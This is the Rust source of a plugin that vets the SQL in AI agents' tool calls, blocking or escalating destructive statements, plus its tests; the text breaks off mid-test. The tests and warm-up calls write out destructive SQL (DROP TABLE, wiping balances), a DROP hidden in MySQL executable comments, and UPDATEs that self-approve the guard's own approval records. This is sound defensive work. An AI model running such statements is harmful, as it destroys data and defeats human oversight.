//! `sql-guard`: a toolvet check for tools that run SQL.
//!
//! The SQL text is taken from the call's arguments (`query`, `sql` or
//! `statement` by default), parsed with [`sqlparser`] in the configured
//! dialect, and every statement that would run, including statements nested
//! in `WITH` clauses, `PREPARE`, `EXPLAIN ANALYZE`, procedural blocks and
//! literal dynamic SQL (`EXECUTE IMMEDIATE '...'`, `EXEC sp_executesql
//! N'...'`), is classified. Destructive kinds (`DROP`, `TRUNCATE`, `ALTER`,
//! `GRANT`/`REVOKE`, `DELETE`/`UPDATE` without a real `WHERE`) get their
//! configured action, as do batches of several statements and, in read-only
//! mode, anything but a plain query. See the crate README for every setting
//! and rule id.

mod analysis;

pub use analysis::{Finding, Kind, analyze};
pub mod server;

use serde::Deserialize;
use sqlparser::dialect::{Dialect, dialect_from_str};
use sqlparser::parser::Parser;
use toolvet_pdk::serde_json::Value;
use toolvet_pdk::{Check, CheckResult, Context, Decision, Key, PluginInfo, ToolCall, ToolInfo};

/// What to do with a finding: `allow`, `escalate` or `deny` (the kit's
/// [`Action`]).
pub use toolvet_pdk::Action;

/// The action per statement kind (`[check.settings.actions]`). Every key is
/// optional; the defaults are `deny` for all of them.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Actions {
    /// `DROP ...` of any object (rule `sql.drop`).
    pub drop: Action,
    /// `TRUNCATE` (rule `sql.truncate`).
    pub truncate: Action,
    /// `ALTER ...` of any object and `RENAME TABLE` (rule `sql.alter`).
    pub alter: Action,
    /// `GRANT`, `REVOKE`, `DENY` and `ALTER DEFAULT PRIVILEGES` (rule `sql.grant`).
    pub grant: Action,
    /// `DELETE` without `WHERE` or with an always-true one (rule
    /// `sql.delete-without-where`).
    pub delete_without_where: Action,
    /// `UPDATE` without `WHERE` or with an always-true one (rule
    /// `sql.update-without-where`).
    pub update_without_where: Action,
    /// More than one statement when `allow_multiple` is false (rule
    /// `sql.multiple-statements`).
    pub multiple_statements: Action,
    /// A statement other than a plain query when `read_only` is true (rule
    /// `sql.read-only`).
    pub read_only: Action,
    /// Server-side file access (rule `sql.server-file`). Default `deny`.
    pub server_file: Action,
    /// A server-side program (rule `sql.server-program`). Default `deny`.
    pub server_program: Action,
    /// `EXPLAIN ANALYZE` of a data change (rule `sql.explain-analyze`).
    /// Default `escalate`.
    pub explain_analyze: Action,
    /// A data-modifying `WITH` clause (rule `sql.hidden-write`). Default
    /// `escalate`.
    pub hidden_write: Action,
    /// Row-level security or integrity checks turned off (rule
    /// `sql.security-off`). Default `deny`.
    pub security_off: Action,
    /// A read of a credentials table (rule `sql.sensitive-table`). Default
    /// `escalate`.
    pub sensitive_table: Action,
    /// A statement naming toolvet's own ledger tables (rule
    /// `sql.toolvet-state`). Default `deny`.
    pub toolvet_state: Action,
}

impl Default for Actions {
    fn default() -> Self {
        Self {
            drop: Action::Deny,
            truncate: Action::Deny,
            alter: Action::Deny,
            grant: Action::Deny,
            delete_without_where: Action::Deny,
            update_without_where: Action::Deny,
            multiple_statements: Action::Deny,
            read_only: Action::Deny,
            server_file: Action::Deny,
            server_program: Action::Deny,
            explain_analyze: Action::Escalate,
            hidden_write: Action::Escalate,
            security_off: Action::Deny,
            sensitive_table: Action::Escalate,
            toolvet_state: Action::Deny,
        }
    }
}

impl Actions {
    /// The configured action for a finding of `kind`.
    pub fn for_kind(&self, kind: Kind) -> Action {
        match kind {
            Kind::Drop => self.drop,
            Kind::Truncate => self.truncate,
            Kind::Alter => self.alter,
            Kind::Grant => self.grant,
            Kind::DeleteWithoutWhere => self.delete_without_where,
            Kind::UpdateWithoutWhere => self.update_without_where,
            Kind::MultipleStatements => self.multiple_statements,
            Kind::ReadOnly => self.read_only,
            Kind::ServerFile => self.server_file,
            Kind::ServerProgram => self.server_program,
            Kind::ExplainAnalyze => self.explain_analyze,
            Kind::HiddenWrite => self.hidden_write,
            Kind::SecurityOff => self.security_off,
            Kind::SensitiveTable => self.sensitive_table,
            Kind::ToolvetState => self.toolvet_state,
        }
    }
}

/// The check's settings (`[check.settings]`).
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Settings {
    /// Names of the arguments that hold SQL text. Each present argument that
    /// is a string (or an array of strings) is checked. Default `["query",
    /// "sql", "statement", "migration"]`.
    pub sql_args: Vec<String>,
    /// The SQL dialect the parser uses: `generic` (default), `postgres`
    /// (`postgresql`), `mysql`, `sqlite`, `mssql`, `snowflake`, `bigquery`,
    /// `redshift`, `clickhouse`, `duckdb`, `databricks`, `hive`, `spark`,
    /// `oracle`, `teradata` or `ansi`.
    pub dialect: String,
    /// Whether one call may run several statements. Default `false`.
    pub allow_multiple: bool,
    /// Only plain queries may run: `SELECT`, `WITH ... SELECT`, `VALUES`,
    /// `EXPLAIN` (without `ANALYZE` of a write), `SHOW`, `DESCRIBE`.
    /// Default `false`.
    pub read_only: bool,
    /// The action per statement kind; see [`Actions`].
    pub actions: Actions,
    /// What to do with SQL the parser cannot read, and with dynamic SQL
    /// whose text is not a literal (rule `sql.unparseable`). Default
    /// `escalate`.
    pub on_unparseable: Action,
}

impl Default for Settings {
    fn default() -> Self {
        Self {
            sql_args: vec![
                "query".into(),
                "sql".into(),
                "statement".into(),
                "migration".into(),
            ],
            dialect: "generic".into(),
            allow_multiple: false,
            read_only: false,
            actions: Actions::default(),
            on_unparseable: Action::Escalate,
        }
    }
}

/// The configured check.
#[derive(Debug)]
pub struct SqlGuard {
    settings: Settings,
    dialect: Box<dyn Dialect>,
}

/// How deep function bodies inside function bodies are read.
const MAX_BODY_DEPTH: usize = 3;

/// The longest parser error quoted in a reason, in characters.
const MAX_ERROR_CHARS: usize = 160;

impl SqlGuard {
    /// Vet one SQL text (all the statements of one argument).
    ///
    /// Returns [`Decision::Allow`] when nothing is flagged, else the most
    /// severe configured action among the findings; see [`combine`]. Text
    /// that does not parse and does not start like a statement
    /// ([`looks_like_sql`]) gets [`Decision::Abstain`].
    pub fn check_sql(&self, sql: &str) -> Decision {
        self.check_sql_at(sql, 0)
    }

    /// [`Self::check_sql`] for text found `depth` routine bodies deep.
    fn check_sql_at(&self, sql: &str, depth: usize) -> Decision {
        // MySQL runs the body of `/*! ... */` comments, and the parser reads
        // them as code in the dialects that support them (MySQL, generic);
        // MariaDB's `/*M! ... */` runs too, so read it the same way.
        let rewritten;
        let sql = if self.dialect.supports_multiline_comment_hints() && sql.contains("/*M!") {
            rewritten = sql.replace("/*M!", "/*!");
            rewritten.as_str()
        } else {
            sql
        };
        // Server-side file and program access, security settings and
        // credential tables are found in the tokens, whatever the dialect
        // and whether or not the statement parses; so are the bodies of
        // functions and procedures, judged like the statements they run.
        let mut scanned: Vec<Decision> = server::scan(sql, self.dialect.as_ref())
            .into_iter()
            .map(|(kind, message)| {
                action_decision(self.settings.actions.for_kind(kind), kind.rule(), message)
            })
            .collect();
        for (language, body) in server::routine_bodies(sql, self.dialect.as_ref()) {
            scanned.extend(self.check_body(&language, &body, depth));
        }
        if scanned.iter().any(|d| d.severity() == 3) {
            return combine(scanned);
        }
        let statements = match Parser::parse_sql(self.dialect.as_ref(), sql) {
            Ok(s) => s,
            Err(_) if !scanned.is_empty() => return combine(scanned),
            Err(_) if !looks_like_sql(sql, &self.settings.dialect) => {
                // Text that does not start like a statement (e.g. a search
                // phrase sent to a tool named `query`) is not SQL: no
                // database would run it either.
                return Decision::Abstain;
            }
            Err(e) => {
                return self.unparseable(format!(
                    "the SQL could not be parsed as {} SQL ({}), so it cannot be vetted; send \
                     one complete statement in that dialect",
                    self.settings.dialect,
                    short_error(&e.to_string())
                ));
            }
        };
        let findings = analyze(
            &statements,
            self.dialect.as_ref(),
            self.settings.allow_multiple,
            self.settings.read_only,
        );
        combine(
            findings
                .into_iter()
                .map(|finding| match finding {
                    Finding::Unparseable(message) => self.unparseable(message),
                    Finding::Flagged { kind, message } => {
                        action_decision(self.settings.actions.for_kind(kind), kind.rule(), message)
                    }
                })
                .chain(scanned)
                .collect(),
        )
    }

    /// The decisions on the body of a function or procedure: what it would
    /// run when called. A `sql` body is judged as SQL; a `plpgsql` body
    /// statement by statement (dynamic `EXECUTE` of built text cannot be
    /// vetted, as in a `DO` block); a body in another language cannot be
    /// read and is unparseable. Untrusted languages are refused by the
    /// token scan (`sql.server-program`) before this matters. The body's
    /// own statements may be several (the multiple-statements rule is for
    /// what one call sends).
    fn check_body(&self, language: &str, body: &str, depth: usize) -> Vec<Decision> {
        if depth >= MAX_BODY_DEPTH {
            return vec![
                self.unparseable(
                    "the SQL nests function bodies too deeply to be vetted; send the statements \
                 themselves"
                        .into(),
                ),
            ];
        }
        let judge = |text: &str| -> Option<Decision> {
            match self.check_sql_at(text, depth + 1) {
                Decision::Abstain => Some(self.unparseable(format!(
                    "a statement in the body of this `{language}` function could not be read, \
                     so what the function runs cannot be vetted"
                ))),
                d if d.rule() == Some(Kind::MultipleStatements.rule()) => None,
                d => Some(d),
            }
        };
        match language {
            "sql" => judge(body).into_iter().collect(),
            "plpgsql" => {
                let Some(statements) = server::body_statements(body, self.dialect.as_ref()) else {
                    return vec![self.unparseable(
                        "the body of this `plpgsql` function could not be read, so what it runs \
                         cannot be vetted"
                            .into(),
                    )];
                };
                statements
                    .iter()
                    .filter_map(|s| {
                        match s {
                        server::BodyStatement::Sql(text) => judge(text),
                        server::BodyStatement::Dynamic => Some(self.unparseable(
                            "the body of this `plpgsql` function runs dynamic SQL (`EXECUTE` of \
                             text built at run time), so what it runs cannot be vetted; a person \
                             must review it"
                                .into(),
                        )),
                    }
                    })
                    .collect()
            }
            other => vec![self.unparseable(format!(
                "the body of this function is `{other}` code, which is not read, so what it runs \
                 cannot be vetted; write it in `sql` or `plpgsql`, or ask a person to review it"
            ))],
        }
    }

    /// Whether `text` is SQL for a tool whose name does not say so: it
    /// parses in the dialect, or it starts like a statement and the token
    /// scan finds server-side file or program access, security turned off
    /// or a function body.
    fn is_sql(&self, text: &str) -> bool {
        if Parser::parse_sql(self.dialect.as_ref(), text).is_ok_and(|s| !s.is_empty()) {
            return true;
        }
        looks_like_sql(text, &self.settings.dialect)
            && (!server::scan(text, self.dialect.as_ref()).is_empty()
                || !server::routine_bodies(text, self.dialect.as_ref()).is_empty())
    }

    fn unparseable(&self, message: String) -> Decision {
        action_decision(self.settings.on_unparseable, "sql.unparseable", message)
    }
}

/// Words of a tool name that say the tool runs SQL (besides any word
/// containing `sql`): `db_execute`, `database_query`, `apply_migration`,
/// `postgres_run`, `bq_query`.
const SQL_NAME_WORDS: &[&str] = &[
    "db",
    "database",
    "databases",
    "migration",
    "migrations",
    "migrate",
    "statement",
    "statements",
    "postgres",
    "postgresql",
    "pg",
    "mariadb",
    "sqlite",
    "sqlite3",
    "duckdb",
    "snowflake",
    "bigquery",
    "bq",
    "redshift",
    "clickhouse",
    "cockroach",
    "cockroachdb",
    "oracle",
    "supabase",
];

/// The words of a tool name: split at anything but letters and digits and
/// where a lower-case letter or digit meets an upper-case one
/// (`executeSql` → `execute`, `sql`; `mcp__sqlite__write_query` → `mcp`,
/// `sqlite`, `write`, `query`), lower-cased.
fn name_words(name: &str) -> Vec<String> {
    let mut words: Vec<String> = Vec::new();
    let mut current = String::new();
    let mut prev_lower = false;
    for c in name.chars() {
        if !c.is_alphanumeric() {
            if !current.is_empty() {
                words.push(std::mem::take(&mut current));
            }
            prev_lower = false;
            continue;
        }
        if c.is_uppercase() && prev_lower && !current.is_empty() {
            words.push(std::mem::take(&mut current));
        }
        prev_lower = c.is_lowercase() || c.is_ascii_digit();
        current.extend(c.to_lowercase());
    }
    if !current.is_empty() {
        words.push(current);
    }
    words
}

/// Whether a tool's name says it runs SQL: a word containing `sql`
/// (`runSql`, `execsql`, `mysql_query`), one of [`SQL_NAME_WORDS`], or the
/// plain names `query`, `run_query`, `execute_query`. Such a tool's SQL
/// arguments are always read, and SQL in them that cannot be parsed is
/// escalated; other tools' arguments only when they hold SQL
/// ([`SqlGuard::is_sql`]), so that a search tool's `query` is left alone.
pub fn sql_tool_name(name: &str) -> bool {
    let words = name_words(name);
    words
        .iter()
        .any(|w| w.contains("sql") || SQL_NAME_WORDS.contains(&w.as_str()))
        || matches!(
            words
                .iter()
                .map(String::as_str)
                .collect::<Vec<_>>()
                .as_slice(),
            ["query"] | ["run" | "execute", "query"]
        )
}

/// Database clients and the options that take SQL on the command line.
const SQL_CLIENTS: &[(&str, &[&str])] = &[
    ("psql", &["-c", "--command"]),
    ("mysql", &["-e", "--execute"]),
    ("mariadb", &["-e", "--execute"]),
    ("duckdb", &["-c"]),
    ("clickhouse-client", &["-q", "--query"]),
    ("cockroach", &["-e", "--execute"]),
    ("sqlcmd", &["-Q", "-q"]),
];

/// SQL given to a database client in a shell command (`command`, `cmd` or
/// `script` argument): `psql -c SQL`, `mysql -e SQL`, `sqlite3 DB SQL`, …
/// Checked when the check's `tools` include shell tools (not by default:
/// every shell call would pay for it, and shell-guard already escalates
/// `DROP`/`TRUNCATE` sent to a client).
pub fn shell_sql(args: &Value) -> Vec<String> {
    use check_catalog::words;
    let mut out = Vec::new();
    // In any case or Unicode form (`Command`): check_catalog::roles.
    for (_, value) in check_catalog::roles::values(args, &["command", "cmd", "script"]) {
        let Some(cmd) = value.as_str() else {
            continue;
        };
        // Every tool's command is looked at: split it into commands only
        // when a client's name is in it.
        if !SQL_CLIENTS
            .iter()
            .map(|(c, _)| *c)
            .chain(["sqlite3"])
            .any(|c| cmd.contains(c))
        {
            continue;
        }
        for w in words::commands(cmd) {
            let name = words::base_name(&w[0]);
            if name == "sqlite3" {
                // `sqlite3 [options] DB SQL`
                if let Some(sql) = words::operands(&w).get(1) {
                    out.push(sql.to_string());
                }
                continue;
            }
            let Some((_, options)) = SQL_CLIENTS.iter().find(|(c, _)| *c == name) else {
                continue;
            };
            for (i, a) in w.iter().enumerate() {
                if options.contains(&a.as_str()) {
                    if let Some(sql) = w.get(i + 1) {
                        out.push(sql.clone());
                    }
                } else if let Some(sql) = options
                    .iter()
                    .find_map(|o| a.strip_prefix(&format!("{o}=")))
                {
                    out.push(sql.to_string());
                }
            }
        }
    }
    out
}

/// Words that start a statement in at least one supported dialect.
const STATEMENT_WORDS: &[&str] = &[
    "ABORT",
    "ALTER",
    "ANALYSE",
    "ANALYZE",
    "ASSERT",
    "ATTACH",
    "BACKUP",
    "BEGIN",
    "BULK",
    "CACHE",
    "CALL",
    "CHECKPOINT",
    "CLUSTER",
    "COMMENT",
    "COMMIT",
    "COPY",
    "CREATE",
    "DBCC",
    "DEALLOCATE",
    "DECLARE",
    "DELETE",
    "DENY",
    "DESC",
    "DESCRIBE",
    "DETACH",
    "DISCARD",
    "DO",
    "DROP",
    "EXEC",
    "EXECUTE",
    "EXPLAIN",
    "EXPORT",
    "FETCH",
    "FLUSH",
    "FROM",
    "GRANT",
    "IF",
    "IMPORT",
    "INSERT",
    "INSTALL",
    "KILL",
    "LISTEN",
    "LOAD",
    "LOCK",
    "MERGE",
    "MSCK",
    "NOTIFY",
    "OPTIMIZE",
    "PIVOT",
    "PRAGMA",
    "PREPARE",
    "RAISERROR",
    "REASSIGN",
    "REFRESH",
    "REINDEX",
    "RELEASE",
    "RENAME",
    "REPAIR",
    "REPLACE",
    "RESET",
    "RESTORE",
    "REVOKE",
    "ROLLBACK",
    "SAVEPOINT",
    "SECURITY",
    "SELECT",
    "SET",
    "SHOW",
    "START",
    "SUMMARIZE",
    "TABLE",
    "THROW",
    "TRUNCATE",
    "UNCACHE",
    "UNLISTEN",
    "UNLOAD",
    "UNLOCK",
    "UNPIVOT",
    "UPDATE",
    "UPSERT",
    "USE",
    "VACUUM",
    "VALUES",
    "WAITFOR",
    "WHILE",
    "WITH",
];

/// Snowflake's file-staging commands, statements only in that dialect.
const SNOWFLAKE_WORDS: &[&str] = &["GET", "LIST", "LS", "PUT", "REMOVE", "RM"];

/// Whether text starts like a SQL statement: after whitespace, `--`, `#`
/// and `/* */` comments and opening parentheses, its first word is one that
/// starts a statement in some dialect ([`STATEMENT_WORDS`], plus Snowflake's
/// staging commands for `snowflake`). Used only for text the parser
/// rejects, to tell broken or unsupported SQL (escalated) from text that is
/// not SQL at all (abstained).
pub fn looks_like_sql(text: &str, dialect: &str) -> bool {
    let mut rest = text;
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '(' || c == ';');
        if let Some(r) = rest.strip_prefix("--").or_else(|| rest.strip_prefix('#')) {
            rest = r.split_once('\n').map_or("", |(_, after)| after);
        } else if let Some(r) = rest.strip_prefix("/*") {
            rest = r.split_once("*/").map_or("", |(_, after)| after);
        } else {
            break;
        }
    }
    let word: String = rest
        .chars()
        .take_while(|c| c.is_ascii_alphabetic() || *c == '_')
        .collect::<String>()
        .to_ascii_uppercase();
    STATEMENT_WORDS.contains(&word.as_str())
        || (dialect.eq_ignore_ascii_case("snowflake") && SNOWFLAKE_WORDS.contains(&word.as_str()))
}

/// A parser error cut to [`MAX_ERROR_CHARS`] characters for a reason.
pub(crate) fn short_error(error: &str) -> String {
    if error.chars().count() > MAX_ERROR_CHARS {
        let mut s: String = error.chars().take(MAX_ERROR_CHARS).collect();
        s.push('…');
        s
    } else {
        error.to_string()
    }
}

/// The most severe of several decisions (deny over escalate over allow),
/// with the rule of the first one of that severity. Its message is followed
/// by the messages of the other flagged findings (`Also: ...`, at most
/// three), so the model learns everything to fix in one round.
pub fn combine(decisions: Vec<Decision>) -> Decision {
    let Some(top) = decisions.iter().map(Decision::severity).max() else {
        return Decision::Allow;
    };
    let mut chosen: Option<Decision> = None;
    let mut others: Vec<String> = Vec::new();
    for d in decisions {
        match (&chosen, &d) {
            (None, _) if d.severity() == top => chosen = Some(d),
            (_, Decision::Deny(r) | Decision::Escalate(r)) if !others.contains(&r.message) => {
                others.push(r.message.clone());
            }
            _ => {}
        }
    }
    let mut chosen = chosen.unwrap_or(Decision::Allow);
    if let Decision::Deny(r) | Decision::Escalate(r) = &mut chosen {
        others.retain(|m| *m != r.message);
        for m in others.iter().take(3) {
            r.message.push_str(". Also: ");
            r.message.push_str(m);
        }
    }
    chosen
}

fn action_decision(action: Action, rule: &str, message: String) -> Decision {
    action.decide(rule, message)
}

impl Check for SqlGuard {
    type Settings = Settings;

    fn info() -> PluginInfo {
        PluginInfo::new(
            "sql-guard",
            env!("CARGO_PKG_VERSION"),
            "SQL tools may not drop, truncate, alter, grant, or delete/update every row",
        )
        // Every tool: a tool is read as an SQL tool by its name's words
        // ([`sql_tool_name`]) or by SQL among its arguments
        // ([`SqlGuard::vet`]), whatever the name (`write_query`,
        // `apply_migration`, `runSql`, an MCP server's `execute`).
        .tools(&["*"])
    }

    fn new(settings: Settings) -> Result<Self, String> {
        if settings.sql_args.is_empty() {
            return Err("settings.sql_args: must name at least one argument".into());
        }
        if let Some(i) = settings.sql_args.iter().position(|a| a.trim().is_empty()) {
            return Err(format!("settings.sql_args[{i}]: must not be empty"));
        }
        let dialect = dialect_from_str(&settings.dialect).ok_or_else(|| {
            format!(
                "settings.dialect: unknown dialect `{}`; use one of generic, postgres, mysql, \
                 sqlite, mssql, snowflake, bigquery, redshift, clickhouse, duckdb, databricks, \
                 hive, spark, oracle, teradata, ansi",
                settings.dialect
            )
        })?;
        let any = [Action::Allow, Action::Escalate, Action::Deny];
        for kind in Kind::ALL {
            settings
                .actions
                .for_kind(kind)
                .one_of(&any, &Key::new("actions").field(kind.setting()))?;
        }
        settings
            .on_unparseable
            .one_of(&any, &Key::new("on_unparseable"))?;
        Ok(Self { settings, dialect })
    }

    /// Vets a few typical calls in `configure`, so what the first call
    /// would build lazily is in the snapshot (see [`Check::warm_up`]).
    fn warm_up(&self) {
        use toolvet_pdk::serde_json::json;
        toolvet_pdk::warm_up_with(
            self,
            &[
                (
                    "run_query",
                    json!({"query": "SELECT id, name, email FROM users WHERE team_id = 42 ORDER BY name LIMIT 50", "comment": toolvet_pdk::WARM_UP_TEXT}),
                ),
                (
                    "run_query",
                    json!({"query": "DELETE FROM orders; DROP TABLE users; UPDATE accounts SET balance = 0"}),
                ),
                (
                    "run_query",
                    json!({"sql": "WITH t AS (SELECT * FROM a JOIN b ON a.id = b.a_id) INSERT INTO c SELECT * FROM t"}),
                ),
            ],
        );
    }

    fn check(&self, call: &ToolCall, _tool: &ToolInfo, _ctx: &Context) -> CheckResult {
        Ok(self.vet(call))
    }
}

impl SqlGuard {
    /// The decision on one call: every SQL text in its `sql_args`, found
    /// by key in any case or Unicode form (`Query`, `SQL`, `ſtatement`:
    /// a tool whose decoder ignores case runs them; see
    /// `check_catalog::roles`).
    pub fn vet(&self, call: &ToolCall) -> Decision {
        let args = call.json();
        let named = sql_tool_name(&call.name);
        let mut texts: Vec<&str> = Vec::new();
        for (_, value) in check_catalog::roles::values(args, &self.settings.sql_args) {
            match value {
                Value::String(s) => texts.push(s),
                Value::Array(items) => {
                    texts.extend(items.iter().filter_map(Value::as_str));
                }
                _ => {}
            }
        }
        if !named {
            // A tool whose name does not say SQL (`write_query`, `execute`,
            // `apply_migration`) is read when its argument is SQL: text
            // that parses in the dialect, or that holds a server-side file,
            // program or security-off finding. Other text (a search phrase
            // in `query`) is not this check's business.
            texts.retain(|t| self.is_sql(t));
        }
        let from_shell = shell_sql(args);
        texts.extend(from_shell.iter().map(String::as_str));
        let texts: Vec<&str> = texts.into_iter().filter(|t| !t.trim().is_empty()).collect();
        if texts.is_empty() {
            return Decision::Abstain;
        }
        let mut decisions: Vec<Decision> = texts.iter().map(|t| self.check_sql(t)).collect();
        // Several SQL texts in one call are several statements too.
        if texts.len() > 1 && !self.settings.allow_multiple {
            decisions.push(action_decision(
                self.settings.actions.multiple_statements,
                Kind::MultipleStatements.rule(),
                format!(
                    "the call carries {} SQL texts; this tool runs one statement per call, \
                     so send them as separate calls",
                    texts.len()
                ),
            ));
        }
        combine(decisions)
    }
}

toolvet_pdk::export_check!(SqlGuard);

#[cfg(test)]
mod tests {
    use super::*;

    fn guard(settings: &str) -> SqlGuard {
        SqlGuard::from_settings_json(settings).expect("valid settings")
    }

    fn rule_of(d: &Decision) -> Option<&str> {
        d.rule()
    }

    #[test]
    fn sql_given_to_database_clients_in_shell_commands() {
        let v = |c: &str| shell_sql(&toolvet_pdk::serde_json::json!({ "command": c }));
        assert_eq!(
            v("psql \"$DATABASE_URL\" -c 'DROP TABLE users'"),
            ["DROP TABLE users"]
        );
        assert_eq!(v("mysql -u root --execute='SELECT 1'"), ["SELECT 1"]);
        assert_eq!(v("sqlite3 app.db 'DELETE FROM t'"), ["DELETE FROM t"]);
        assert!(v("psql -f migrate.sql").is_empty());
        let g = guard(r#"{"dialect": "postgres"}"#);
        let call = ToolCall::new("bash", r#"{"command": "psql -c 'DROP TABLE users'"}"#);
        let d = g.decide(&call, &ToolInfo::default(), &Context::default());
        assert_eq!(rule_of(&d), Some("sql.drop"));
    }

    /// Review s12 L5: toolvet's own tables on a Postgres ledger.
    #[test]
    fn toolvet_ledger_tables_are_toolvet_state() {
        for dialect in ["generic", "postgres"] {
            let g = guard(&format!(r#"{{"dialect": "{dialect}"}}"#));
            for sql in [
                "UPDATE toolvet_approval_requests SET status='approved', decision='approve', reviewer='alice', scope='once' WHERE id='apr_1'",
                "update public.toolvet_approval_requests set status = 'approved' where id = 'apr_1'",
                r#"UPDATE "toolvet_approval_requests" SET status='consumed' WHERE status='pending'"#,
                "DELETE FROM toolvet_approval_signed_decisions WHERE id = 'apr_1'",
                "INSERT INTO toolvet_ledger_meta (key, value) VALUES ('x', 'y')",
                "SELECT id, status FROM toolvet_approval_requests WHERE status = 'pending'",
                "DO $$ BEGIN UPDATE toolvet_approval_requests SET status='approved'; END $$",
                "WITH x AS (UPDATE toolvet_approval_requests SET status='approved' WHERE id='a' RETURNING id) SELECT * FROM x",
            ] {
                let d = g.check_sql(sql);
                assert_eq!(
                    (d.kind(), rule_of(&d)),
                    ("deny", Some("sql.toolvet-state")),
                    "{dialect}: {sql}"
                );
            }
            assert_eq!(
                g.check_sql("UPDATE approvals SET status='approved' WHERE id=1"),
                Decision::Allow
            );
        }
        // The same SQL given to psql in a shell command, and to an MCP
        // database tool.
        let g = guard(r#"{"dialect": "postgres"}"#);
        for (tool, args) in [
            (
                "bash",
                r#"{"command": "psql postgres://toolvet@127.0.0.1:55432/toolvet -c \"UPDATE toolvet_approval_requests SET status='approved' WHERE id='apr_1'\""}"#,
            ),
            (
                "mcp__postgres__query",
                r#"{"query": "UPDATE toolvet_approval_requests SET status='approved' WHERE id='apr_1'"}"#,
            ),
        ] {
            let d = g.decide(
                &ToolCall::new(tool, args),
                &ToolInfo::default(),
                &Context::default(),
            );
            assert_eq!(rule_of(&d), Some("sql.toolvet-state"), "{tool} {args}");
        }
    }

    #[test]
    fn default_settings_deny_drop_and_allow_select() {
        let g = guard("{}");
        let d = g.check_sql("DROP TABLE users");
        assert_eq!(d.kind(), "deny");
        assert_eq!(rule_of(&d), Some("sql.drop"));
        assert_eq!(
            g.check_sql("SELECT * FROM users WHERE id = 5"),
            Decision::Allow
        );
    }

    #[test]
    fn actions_override_per_kind() {
        let g = guard(r#"{"actions": {"alter": "escalate", "drop": "allow"}}"#);
        assert_eq!(
            g.check_sql("ALTER TABLE t ADD COLUMN c INT").kind(),
            "escalate"
        );
        assert_eq!(g.check_sql("DROP TABLE t"), Decision::Allow);
        assert_eq!(g.check_sql("TRUNCATE TABLE t").kind(), "deny");
    }

    #[test]
    fn unparseable_follows_setting() {
        assert_eq!(
            guard("{}")
                .check_sql("SELECT * FROM x WHERE id = = 5")
                .kind(),
            "escalate"
        );
        let d = guard(r#"{"on_unparseable": "deny"}"#).check_sql("SELECT * FROM x WHERE id = = 5");
        assert_eq!(d.kind(), "deny");
        assert_eq!(rule_of(&d), Some("sql.unparseable"));
        assert_eq!(
            guard(r#"{"on_unparseable": "allow"}"#).check_sql("SELECT * FROM x WHERE id = = 5"),
            Decision::Allow
        );
    }

    #[test]
    fn executable_comments_are_code_in_mysql() {
        let g = guard(r#"{"dialect": "mysql"}"#);
        let d = g.check_sql("SELECT 1 /*!50000 ; DROP TABLE users */");
        assert_eq!(rule_of(&d), Some("sql.drop"));
        let d = g.check_sql("SELECT 1 /*M!100000 ; DROP TABLE users */");
        assert_eq!(rule_of(&d), Some("sql.drop"));
        // PostgreSQL does not run them: a comment is a comment.
        let g = guard(r#"{"dialect": "postgres"}"#);
        assert_eq!(
            g.check_sql("SELECT 1 /*! ; DROP TABLE users */"),
            Decision::Allow
        );
    }

    #[test]
    fn text_that_is_not_sql_is_abstained() {
        let g = guard("{}");
        assert_eq!(
            g.check_sql("how do I drop a table in postgres?"),
            Decision::Abstain
        );
        assert_eq!(g.check_sql("what's the revenue for Q3"), Decision::Abstain);
        // A misspelt keyword starts no statement, so no database would run it.
        assert_eq!(g.check_sql("SELEC * FRM x"), Decision::Abstain);
        assert_eq!(g.check_sql("SELECT * FROM x WHERE").kind(), "escalate");
        assert_eq!(
            g.check_sql("-- note\n/* x */ (DO $$ BEGIN END $$)").kind(),
            "escalate"
        );
        assert!(looks_like_sql(
            "  # mysql comment\n  drop tablex users",
            "mysql"
        ));
        assert!(!looks_like_sql("list all tables", "postgres"));
        assert!(looks_like_sql("list @stage", "snowflake"));
        assert!(!looks_like_sql("-- only a comment", "generic"));
        assert!(!looks_like_sql("'DROP TABLE users'", "generic"));
    }

    #[test]
    fn bad_settings_name_the_key() {
        let e = SqlGuard::from_settings_json(r#"{"dialect": "cobol"}"#)
            .err()
            .unwrap();
        assert!(e.starts_with("settings.dialect:"), "{e}");
        let e = SqlGuard::from_settings_json(r#"{"actions": {"dorp": "deny"}}"#)
            .err()
            .unwrap();
        assert!(e.contains("actions") && e.contains("dorp"), "{e}");
        let e = SqlGuard::from_settings_json(r#"{"on_unparseable": "maybe"}"#)
            .err()
            .unwrap();
        assert!(e.starts_with("settings.on_unparseable:"), "{e}");
        let e = SqlGuard::from_settings_json(r#"{"sql_args": []}"#)
            .err()
            .unwrap();
        assert!(e.starts_with("settings.sql_args:"), "{e}");
        let e = SqlGuard::from_settings_json(r#"{"read_olny": true}"#)
            .err()
            .unwrap();
        assert!(e.contains("read_olny"), "{e}");
    }

    #[test]
    fn reads_configured_argument_names_and_arrays() {
        let g = guard(r#"{"sql_args": ["q"]}"#);
        let call = ToolCall::new("run_query", r#"{"q": "DROP TABLE t"}"#);
        let d = g.decide(&call, &ToolInfo::default(), &Context::default());
        assert_eq!(rule_of(&d), Some("sql.drop"));
        // The default argument names are no longer read.
        let call = ToolCall::new("run_query", r#"{"query": "DROP TABLE t"}"#);
        let d = g.decide(&call, &ToolInfo::default(), &Context::default());
        assert_eq!(d, Decision::Abstain);

        let g = guard("{}");
        let call = ToolCall::new("sql", r#"{"statement": ["SELECT 1", "SELECT 2"]}"#);
        let d = g.decide(&call, &ToolInfo::default(), &Context::default());
        assert_eq!(rule_of(&d), Some("sql.multiple-statements"));
        let call = ToolCall::new("sql", r#"{"limit": 5}"#);
        let d = g.decide(&call, &ToolInfo::default(), &Context::default());
        assert_eq!(d, Decision::Abstain);
    }

    #[test]
    fn deny_outranks_escalate_across_findings() {
        let g = guard(r#"{"allow_multiple": true, "actions": {"alter": "escalate"}}"#);
        let d = g.check_sql("ALTER TABLE t ADD c INT; DROP TABLE u");
        assert_eq!(d.kind(), "deny");
        assert_eq!(rule_of(&d), Some("sql.drop"));
        // The escalated ALTER is still mentioned.
        let Decision::Deny(r) = &d else {
            unreachable!()
        };
        assert!(r.message.contains("Also: `ALTER TABLE t`"), "{}", r.message);
    }

    #[test]
    fn destructive_finding_outranks_multiple_statements() {
        let d = guard("{}").check_sql("SELECT 1; DROP TABLE users");
        assert_eq!(rule_of(&d), Some("sql.drop"));
